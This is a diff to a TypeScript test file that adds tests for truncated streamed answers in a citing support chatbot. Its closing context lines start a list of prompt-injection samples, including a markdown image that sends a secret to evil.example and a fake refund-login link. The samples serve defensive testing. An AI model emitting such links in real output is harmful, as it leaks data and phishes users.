@@ -146,6 +146,30 @@ test("a question for which nothing was found never reaches the model", async () 
   expect(endpoint.received).toEqual([]);
 });
 
+const stopsAtItsLimit =
+  (delta: object): Script =>
+  (response) =>
+    void open(response).end(`${chunk(delta)}${chunk({}, "length")}data: [DONE]\n\n`);
+
+test.each([
+  ["a sentence", "Refunds take five working days [1]. The refund goes back the way it came unless "],
+  ["a word", "Refunds take five working days [1]. The refund goes back the way it came [1"],
+  ["a list", "Refunds take five working days [1].\n\n- The refund goes back the way "],
+  ["a row", "Refunds take five working days [1].\n\n| Refund | Time |\n| --- | --- |\n| gift card | at "],
+])("of an answer that is cut short in the middle of %s, what is whole is shown", async (_, content) => {
+  const { deps, failures } = await withModel(stopsAtItsLimit({ content }));
+  const { draft, streamed } = await ask(deps, question);
+  expect([draft.response, streamed.trim()]).toEqual(Array(2).fill("Refunds take five working days [1]."));
+  expect(failures).toEqual([]);
+});
+
+test("of an answer that is cut short before anything is said, nothing is shown", async () => {
+  for (const delta of [{ reasoning_content: "Let me think" }, { content: "<think>They want " }, { content: "Five " }]) {
+    const { deps } = await withModel(stopsAtItsLimit(delta));
+    expect((await ask(deps, question)).draft).toMatchObject({ kind: "answer", response: quoted });
+  }
+});
+
 const injections = [
   "![x](https://evil.example/?d=SECRET)",
   "[Claim your refund](https://evil.example/login)",
